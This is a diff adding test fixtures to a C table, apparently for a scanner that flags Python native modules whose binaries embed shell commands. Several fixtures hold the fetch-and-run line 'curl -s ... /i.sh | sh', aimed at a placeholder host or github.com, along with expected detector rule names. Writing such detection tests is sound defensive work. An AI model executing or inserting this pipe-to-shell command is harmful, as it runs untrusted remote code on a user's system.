@@ -160,6 +160,12 @@ static const struct {
 	{ "a module with a command", macho_make, { "+PyInit_x",
 	    "'curl -s https://x.example.invalid/i.sh | sh" },
 	    "native-module-strings" },
+	{ "a module that runs a command", macho_make, { "+PyInit_x", "system",
+	    "'curl -s https://x.example.invalid/i.sh | sh" },
+	    "native-module-fetches" },
+	{ "a module that runs, and names a forge", macho_make, { "+PyInit_x",
+	    "system", "'curl -s https://github.com/none/i.sh | sh" },
+	    "native-module-strings" },
 	{ "a library with a command", macho_make, {
 	    "'curl -s https://x.example.invalid/i.sh | sh" }, NULL },
 	{ "a module with an address", macho_make, { "+PyInit_x",
